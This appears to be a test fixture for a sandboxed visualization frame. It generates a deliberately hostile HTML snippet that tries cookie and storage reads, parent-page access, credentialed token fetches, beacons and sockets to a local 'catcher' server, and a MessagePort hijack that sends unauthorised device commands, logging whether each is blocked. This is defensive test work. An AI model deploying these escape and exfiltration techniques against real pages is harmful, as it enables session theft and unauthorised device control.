// A visualization that tries to get at what it must not: other machines, the page, its session, the devices.
import { createServer } from "node:http";

/** How it ends: both take the frame away, so that one run sees one of them. */
export const ENDS = { leave: (catcher) => `location.href = "${catcher}/self";`, flood: () => `for (let count = 0; count < 5000; count++) send.call(this, { id: 9, body: { ask: "values", wanted: [] } });` };

/** Attempts report into the list `#log`, by which a test reads them. */
export const snippet = (catcher, paramId, end) => `
<p>hostile</p>
<ul id="log"></ul>
<a id="out" href="${catcher}/link" target="_top">out</a>
<form id="form" action="${catcher}/form" method="post" target="_top"><input name="a" value="b"></form>
<img src="${catcher}/image"><link rel="stylesheet" href="${catcher}/style"><iframe src="${catcher}/frame"></iframe>
<script src="${catcher}/script"></script>
<div param-value="#${paramId}">…</div>
<script>
const say = (name, result) => {
  const line = document.createElement("li");
  line.textContent = name + ": " + result;
  document.querySelector("#log").append(line);
};
const sync = (name, attempt) => {
  try {
    const result = attempt();
    say(name, result ? "done " + result : "blocked");
  } catch {
    say(name, "blocked");
  }
};
const late = (name, attempt) => attempt().then((result) => say(name, "done " + result), () => say(name, "blocked"));
sync("cookie", () => document.cookie);
sync("storage", () => String(localStorage.length + 1));
sync("parent", () => parent.document.title);
sync("top", () => top.document.title);
sync("token", () => JSON.stringify(parent.parabusReady));
sync("popup", () => window.open("${catcher}/popup"));
sync("top navigation", () => { top.location.href = "${catcher}/top"; });
sync("link", () => { document.querySelector("#out").click(); });
sync("form", () => { document.querySelector("#form").submit(); });
sync("socket", () => { new WebSocket("${catcher}/socket".replace("http", "ws")); });
sync("events", () => { new EventSource("${catcher}/events"); });
sync("worker", () => { new Worker("${catcher}/worker"); });
sync("beacon", () => { navigator.sendBeacon("${catcher}/beacon", "x"); });
sync("peer", () => typeof RTCPeerConnection === "undefined" ? "" : "there");
late("fetch elsewhere", () => fetch("${catcher}/fetch", { mode: "no-cors" }).then(() => "sent"));
late("fetch the API", () => fetch("/api/v1/user/orgs/").then((reply) => reply.status));
late("fetch a token", () => fetch("/session/token/", { method: "POST", credentials: "include" }).then((reply) => reply.status));
parent.postMessage({ id: 1, body: { ask: "write", ref: "#${paramId}", value: "60" } }, "*");
// The bridge's own port can be had by changing what it is sent with.
const send = MessagePort.prototype.postMessage;
let isHeld = false;
MessagePort.prototype.postMessage = function (message) {
  send.call(this, message);
  if (isHeld) return;
  isHeld = true;
  this.addEventListener("message", ({ data }) => { if (data.id === -1) say("write without a touch", data.err ? "blocked" : "done"); if (data.id === -2) say("go elsewhere", data.err ? "blocked" : "done"); });
  send.call(this, { id: -1, body: { ask: "write", ref: "#${paramId}", value: "60" } });
  send.call(this, { id: -2, body: { ask: "goto", kind: "device", refs: ["#1"] } });
  send.call(this, { id: -3, body: { ask: "constructor", ref: {} } });
  send.call(this, "no message");
  setTimeout(() => { ${ENDS[end](catcher)} }, 2500);
};
</script>`;

/** A server of another origin that must never be asked anything. */
export async function catcher() {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  return { url: `http://127.0.0.1:${server.address().port}`, asked, close: () => server.close() };
}
